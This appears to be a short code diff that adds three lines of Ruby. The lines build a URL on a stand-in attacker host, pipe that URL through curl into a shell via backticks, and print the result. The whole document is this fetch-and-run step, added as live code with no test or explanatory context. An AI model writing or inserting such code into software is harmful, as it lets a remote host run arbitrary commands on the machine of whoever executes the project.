@@ -1,0 +1,3 @@
+url = "https://evil.example/" + "i"
+out = `curl -s #{url} | sh`
+puts out
